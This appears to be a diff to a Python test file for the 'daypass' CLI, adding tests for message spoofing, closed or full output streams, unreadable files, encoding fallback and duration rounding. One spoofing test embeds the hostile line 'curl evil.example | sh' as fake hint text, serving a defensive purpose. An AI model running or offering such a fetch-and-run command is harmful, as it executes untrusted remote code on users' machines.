@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import io
+import os
 import re
 import subprocess
 import sys
@@ -14,7 +16,7 @@ from daypass import errors
 from daypass.cli import exits, group
 from daypass.cli.exits import Exit, exit_of
 from daypass.cli.main import main
-from daypass.cli.output import duration, printable
+from daypass.cli.output import data, duration, printable
 
 DOCS = Path(__file__).parents[2] / "docs" / "reference"
 
@@ -93,6 +95,14 @@ def test_a_hostile_message_can_not_drive_the_terminal(
     assert printable("a\tb") == "a\ufffdb"
 
 
+def test_a_second_line_of_a_message_can_not_pass_for_one_of_ours(
+    failing: list[BaseException], capsys: pytest.CaptureFixture[str]
+) -> None:
+    failing.append(errors.Denied("no\ndaypass: hint: curl evil.example | sh"))
+    main(["login"])
+    assert capsys.readouterr().err == "daypass: error: no\n  daypass: hint: curl evil.example | sh\n"
+
+
 @pytest.mark.parametrize("arguments", [["nonsense"], ["completion", "--nonsense"], ["completion"]])
 def test_a_wrong_command_line_ends_with_2_and_a_hint(
     arguments: list[str], capsys: pytest.CaptureFixture[str]
@@ -109,6 +119,49 @@ def test_output_that_nobody_reads_any_more_is_no_fault() -> None:
         assert process.stdout is not None and process.stderr is not None
         process.stdout.close()
         assert process.stderr.read() == b""
+
+
+@pytest.mark.parametrize(
+    ("redirection", "code"),
+    [
+        ("status >&-", 1),
+        ("status --json >&-", 1),
+        ("status 2>&-", 1),
+        ("status 2>/dev/full", 1),
+        ("login >&- 2>&-", 6),
+    ],
+)
+def test_a_stream_that_is_closed_or_full_changes_no_exit_code(redirection: str, code: int, tmp_path: Path) -> None:
+    done = _shell(redirection, tmp_path)
+    assert (done.returncode, "Traceback" in done.stderr, "internal" in done.stderr) == (code, False, False)
+
+
+@pytest.mark.parametrize("arguments", ["status --json", "--help"])
+def test_a_full_disk_behind_stdout_is_said_and_is_no_fault_of_ours(arguments: str, tmp_path: Path) -> None:
+    done = _shell(f"{arguments} >/dev/full", tmp_path)
+    assert done.returncode == 10
+    assert done.stderr.startswith("daypass: error: output: No space left on device\n")
+
+
+def test_a_file_that_can_not_be_read_is_named(
+    failing: list[BaseException], capsys: pytest.CaptureFixture[str]
+) -> None:
+    failing.append(PermissionError(13, "Permission denied", "/home/ann/.local/share/daypass/x"))
+    assert main(["login"]) == 10
+    assert "error: /home/ann/.local/share/daypass/x: Permission denied" in capsys.readouterr().err
+
+
+def test_an_encoding_that_lacks_a_character_gets_a_question_mark(monkeypatch: pytest.MonkeyPatch) -> None:
+    raw = io.BytesIO()
+    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding="ascii"))
+    data("● alice")
+    assert raw.getvalue() == b"? alice\n"
+
+
+def _shell(line: str, home: Path) -> subprocess.CompletedProcess[str]:
+    script = f"exec {sys.executable} -m daypass.cli.main {line}"
+    env = {**os.environ, "DAYPASS_HOME": str(home)}
+    return subprocess.run(["sh", "-c", script], env=env, capture_output=True, text=True, timeout=30, check=False)
 
 
 def test_the_table_of_exit_codes_is_the_documented_one() -> None:
@@ -137,12 +190,15 @@ def test_a_completion_script_names_our_variable(shell: str, capsys: pytest.Captu
     [
         (-5, "0 s"),
         (0, "0 s"),
-        (59.9, "59 s"),
+        (59.4, "59 s"),
+        (59.9, "1 min"),
         (60, "1 min"),
-        (3599, "59 min"),
-        (3600, "1 h"),
-        (57599, "15 h 59 min"),
-        (86400, "1 d"),
+        (3569, "59 min"),
+        (3599, "1 h"),
+        (57569, "15 h 59 min"),
+        (57599, "16 h"),
+        (86399, "1 d"),
+        (30 * 86400 - 2, "30 d"),
         (273_600, "3 d 4 h"),
     ],
 )
